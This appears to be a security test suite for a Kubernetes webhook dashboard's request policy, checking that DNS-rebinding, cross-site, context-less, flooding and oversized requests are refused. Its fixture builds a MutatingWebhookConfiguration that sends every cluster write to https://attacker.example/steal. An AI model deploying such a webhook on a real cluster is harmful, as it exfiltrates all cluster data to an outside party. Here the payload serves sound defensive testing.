/**
 * The request policy (proxy.ts, lib/http/request-policy.ts) against the running dashboard, tried
 * as an attacker would: a DNS-rebinding page, a neighbour on the network, a script with no
 * context, hostile cookies, a flood of event streams. Each refusal is a 4xx and nothing reaches
 * the cluster.
 */
import http from "node:http";
import { readFileSync } from "node:fs";
import { spawnSync } from "node:child_process";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { readStack, REPO_ROOT, type StackInfo } from "./cluster/harness/stack";
import { httpsRequest } from "./cluster/https-json";
import { policyHeaders } from "./test/api-headers";

let stack: StackInfo;
let port: number;
beforeAll(() => {
  stack = readStack();
  port = Number(new URL(stack.dashboardUrl).port);
});

interface RawResponse {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** A request with exactly these headers (fetch would not let a test forge Host). */
function raw(
  pathname: string,
  opts: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: "127.0.0.1",
        port,
        path: pathname,
        method: opts.method ?? "GET",
        headers: { host: `127.0.0.1:${port}`, ...opts.headers },
      },
      (res) => {
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (c: string) => {
          // Event streams never end: the status and first bytes are all a test needs.
          body += c;
          if (res.headers["content-type"]?.startsWith("text/event-stream")) res.destroy();
        });
        res.on("close", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
        res.on("error", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on("error", reject);
    if (opts.body) req.write(opts.body);
    req.end();
  });
}

const HOOKS = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";

async function storedHook(name: string): Promise<number> {
  const res = await httpsRequest(`${stack.server}${HOOKS}/${name}`, {
    ca: readFileSync(stack.caFile),
    token: stack.tokens.admin,
  });
  return res.status;
}

/** A MutatingWebhookConfiguration that would send every write in the cluster elsewhere. */
function exfiltratingHook(name: string) {
  return JSON.stringify({
    object: {
      apiVersion: "admissionregistration.k8s.io/v1",
      kind: "MutatingWebhookConfiguration",
      metadata: { name },
      webhooks: [
        {
          name: "steal.attacker.example",
          clientConfig: { url: "https://attacker.example/steal" },
          rules: [
            {
              apiGroups: ["*"],
              apiVersions: ["*"],
              operations: ["*"],
              resources: ["*/*"],
            },
          ],
          admissionReviewVersions: ["v1"],
          sideEffects: "None",
          failurePolicy: "Ignore",
        },
      ],
    },
  });
}

describe("DNS rebinding", () => {
  const rebound = () => ({
    host: `a.attacker.example:${port}`,
    origin: `http://a.attacker.example:${port}`,
    "sec-fetch-site": "same-origin",
  });

  it("refuses a rebound page, API read and event stream with 421", async () => {
    for (const p of [
      "/",
      "/webhooks",
      "/api/contexts",
      "/api/watch?r=admissionregistration.k8s.io/v1/mutatingwebhookconfigurations",
    ]) {
      const res = await raw(p, { headers: rebound() });
      expect(res.status, p).toBe(421);
      expect(res.body).not.toContain(stack.server);
    }
  });

  it("refuses a rebound write, and the apiserver shows no object", async () => {
    const name = `rebind-${Date.now()}`;
    const res = await raw("/api/webhooks/mutatingwebhookconfigurations", {
      method: "POST",
      headers: {
        ...rebound(),
        "content-type": "application/json",
        "x-portcullis-context": stack.contexts.admin,
      },
      body: exfiltratingHook(name),
    });
    expect(res.status).toBe(421);
    expect(await storedHook(name)).toBe(404);
  });
});

describe("callers that are not the dashboard's own pages", () => {
  it("refuses API reads and writes from scripts and other sites with 403", async () => {
    const callers: Array<Record<string, string>> = [
      {},
      { "sec-fetch-site": "cross-site" },
      { origin: "https://evil.example" },
    ];
    for (const headers of callers) {
      expect((await raw("/api/contexts", { headers })).status).toBe(403);
      const name = `script-${Date.now()}`;
      const write = await raw("/api/webhooks/mutatingwebhookconfigurations", {
        method: "POST",
        headers: {
          ...headers,
          "content-type": "application/json",
          "x-portcullis-context": stack.contexts.admin,
        },
        body: exfiltratingHook(name),
      });
      expect(write.status).toBe(403);
      expect(await storedHook(name)).toBe(404);
    }
  });

  it("still accepts the apiserver's audit batches and health probes", async () => {
    const audit = await raw("/api/audit", {
      method: "POST",
      headers: { authorization: `Bearer ${stack.auditToken}`, "content-type": "application/json" },
      body: JSON.stringify({ kind: "EventList", apiVersion: "audit.k8s.io/v1", items: [] }),
    });
    expect(audit.status).toBe(200);
    expect((await raw("/api/health")).status).toBe(200);
  });
});

describe("explicit identity", () => {
  it("refuses an API call that names no context, and nothing is written", async () => {
    const name = `no-context-${Date.now()}`;
    const res = await raw("/api/webhooks/mutatingwebhookconfigurations", {
      method: "POST",
      headers: { "sec-fetch-site": "same-origin", "content-type": "application/json" },
      body: exfiltratingHook(name),
    });
    expect(res.status).toBe(400);
    expect((JSON.parse(res.body) as { reason: string }).reason).toBe("ContextRequired");
    expect(await storedHook(name)).toBe(404);
  });

  it("does not fall back to the default for an unknown context or a context cookie", async () => {
    const unknown = await raw("/api/overview", {
      headers: { ...policyHeaders("nobody@nowhere") },
    });
    expect(unknown.status).toBe(400);
    const cookieOnly = await raw("/api/overview", {
      headers: {
        "sec-fetch-site": "same-origin",
        cookie: `portcullis-context=${encodeURIComponent(stack.contexts.admin)}`,
      },
    });
    expect(cookieOnly.status).toBe(400);
  });

  it("ignores a malformed cookie: pages render and the API answers", async () => {
    const cookie = "portcullis-context=%E0%A4%A";
    expect((await raw("/webhooks", { headers: { cookie } })).status).toBe(200);
    const api = await raw("/api/contexts", {
      headers: { cookie, ...policyHeaders(stack.contexts.admin) },
    });
    expect(api.status).toBe(200);
    expect((JSON.parse(api.body) as { start: string }).start).toBe(stack.contexts.admin);
  });

  it("answers a path with a malformed %-escape 400 with a reason, page and API alike", async () => {
    for (const p of ["/namespaces/%E0%A4%A", "/webhooks/validatingwebhookconfigurations/%FF"]) {
      const page = await raw(p);
      expect(page.status).toBe(400);
      expect(page.body).toContain("%-escape");
    }
    const api = await raw("/api/webhooks/validatingwebhookconfigurations/%C3", {
      headers: policyHeaders(stack.contexts.admin),
    });
    expect(api.status).toBe(400);
    expect(JSON.parse(api.body)).toMatchObject({ status: 400, reason: "BadRequest" });
    // A well-formed name with a multi-byte character is still a page (here: no such namespace).
    expect((await raw("/namespaces/%E0%A4%A4")).status).toBe(200);
  });

  it("answers an API path no route serves with the API's JSON 404, whatever the method", async () => {
    const headers = policyHeaders(stack.contexts.admin);
    for (const [method, p] of [
      ["GET", "/api/no-such-route"],
      ["POST", "/api/decisions/1/2/3"],
      ["DELETE", "/api/webhooks/validatingwebhookconfigurations/x/y/z"],
    ] as const) {
      const res = await raw(p, { method, headers });
      expect(res.status, `${method} ${p}`).toBe(404);
      expect(res.headers["content-type"]).toContain("application/json");
      expect(JSON.parse(res.body)).toMatchObject({ status: 404, reason: "NotFound" });
    }
    // The policy still comes first: another site gets its 403, not a map of the API.
    const cross = await raw("/api/no-such-route", { headers: { "sec-fetch-site": "cross-site" } });
    expect(cross.status).toBe(403);
  });
});

describe("headers", () => {
  it("every response — page, API, refusal, static — forbids framing and sniffing", async () => {
    const page = await raw("/");
    const script = /<script[^>]* src="([^"]+)"/.exec(page.body)?.[1];
    expect(script).toBeTruthy();
    const responses = [
      page,
      await raw("/api/contexts", { headers: policyHeaders(stack.contexts.admin) }),
      await raw("/api/contexts"),
      await raw(script ?? "/"),
    ];
    for (const res of responses) {
      const csp = String(res.headers["content-security-policy"]);
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("default-src 'self'");
      expect(csp).not.toMatch(/https?:/);
      expect(res.headers["x-frame-options"]).toBe("DENY");
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
      expect(res.headers["referrer-policy"]).toBe("no-referrer");
    }
    // Next's own inline and external scripts carry the response's nonce.
    const nonce = /'nonce-([^']+)'/.exec(String(page.headers["content-security-policy"]))?.[1];
    const tags = page.body.match(/<script\b[^>]*>/g) ?? [];
    expect(tags.length).toBeGreaterThan(0);
    for (const tag of tags) expect(tag).toContain(`nonce="${nonce}"`);
  });

  it("sets the context cookie HttpOnly and SameSite=Strict", async () => {
    const res = await raw("/api/contexts", {
      method: "POST",
      headers: { ...policyHeaders(stack.contexts.admin), "content-type": "application/json" },
      body: JSON.stringify({ context: stack.contexts.admin }),
    });
    expect(res.status).toBe(200);
    expect(String(res.headers["set-cookie"])).toMatch(/HttpOnly/);
    expect(String(res.headers["set-cookie"])).toMatch(/SameSite=Strict/);
  });
});

describe("listening address", () => {
  it("the dashboard's socket is bound to loopback only", () => {
    const hexPort = port.toString(16).toUpperCase().padStart(4, "0");
    const listening: string[] = [];
    for (const file of ["/proc/net/tcp", "/proc/net/tcp6"]) {
      let text = "";
      try {
        text = readFileSync(file, "utf8");
      } catch {
        continue;
      }
      for (const line of text.split("\n").slice(1)) {
        const cols = line.trim().split(/\s+/);
        const [addr, p] = (cols[1] ?? "").split(":");
        if (p === hexPort && cols[3] === "0A") listening.push(addr ?? "");
      }
    }
    expect(listening.length).toBeGreaterThan(0);
    // 0100007F is 127.0.0.1; the IPv6 forms are ::1 and ::ffff:127.0.0.1.
    const loopback = new Set([
      "0100007F",
      "00000000000000000000000001000000",
      "0000000000000000FFFF00000100007F",
    ]);
    for (const a of listening) expect(loopback.has(a), `listening on ${a}`).toBe(true);
  });

  it("npm start refuses to listen on a non-loopback address", () => {
    for (const host of ["0.0.0.0", "::", "192.0.2.10", "example.com"]) {
      const res = spawnSync(process.execPath, [path.join(REPO_ROOT, "scripts/start.mjs")], {
        env: { ...process.env, PORTCULLIS_HOST: host, PORT: "1" },
        encoding: "utf8",
        timeout: 10_000,
      });
      expect(res.status, host).toBe(2);
      expect(res.stderr).toContain("refusing to listen");
    }
  });
});

describe("bounded event streams", () => {
  async function health(): Promise<{
    upstreamWatches: number;
    liveStreams: number;
    rssBytes: number;
  }> {
    return JSON.parse((await raw("/api/health")).body) as {
      upstreamWatches: number;
      liveStreams: number;
      rssBytes: number;
    };
  }

  it("500 streams for invented collections start no upstream watch and hold no memory", async () => {
    const before = await health();
    const results = await Promise.all(
      Array.from({ length: 500 }, (_, i) =>
        raw(
          `/api/watch?r=admissionregistration.k8s.io/v${i}x/things${i}&context=${encodeURIComponent(stack.contexts.admin)}`,
          { headers: { "sec-fetch-site": "same-origin" } },
        ),
      ),
    );
    for (const r of results) expect(r.status).toBe(404);
    const after = await health();
    expect(after.upstreamWatches).toBe(before.upstreamWatches);
    expect(after.liveStreams).toBe(before.liveStreams);
    expect(after.rssBytes - before.rssBytes).toBeLessThan(64 * 1024 * 1024);
  });

  it("caps the streams one context holds, and frees a stream when its client goes away", async () => {
    const url = `${stack.dashboardUrl}/api/watch?r=admissionregistration.k8s.io/v1/validatingwebhookconfigurations`;
    const base = (await health()).liveStreams;
    const aborts: AbortController[] = [];
    const statuses: number[] = [];
    for (let i = 0; i < 34; i++) {
      const abort = new AbortController();
      aborts.push(abort);
      const res = await fetch(url, {
        headers: policyHeaders(stack.contexts.editor),
        signal: abort.signal,
      });
      statuses.push(res.status);
    }
    expect(statuses.filter((s) => s === 200).length).toBe(32);
    expect(statuses.slice(32)).toEqual([429, 429]);
    for (const a of aborts) a.abort();
    await expect.poll(async () => (await health()).liveStreams, { timeout: 5_000 }).toBe(base);
  });
});

describe("body sizes, before any route", () => {
  it.each([
    ["/api/predict/dry-run", 3 * 1024 * 1024 + 1],
    ["/api/session", 64 * 1024 + 1],
    ["/api/session/oidc/callback", 64 * 1024 + 1],
  ])("%s declaring %i bytes is refused with 413 before its route runs", async (p, n) => {
    // Next reads a body before proxy.ts runs, so the body is sent; the route never sees it.
    const res = await raw(p, {
      method: "POST",
      headers: {
        ...policyHeaders(stack.contexts.admin),
        "content-type": "application/json",
        "content-length": String(n),
      },
      body: "x".repeat(n),
    });
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body)).toMatchObject({ reason: "RequestEntityTooLarge" });
  });
});
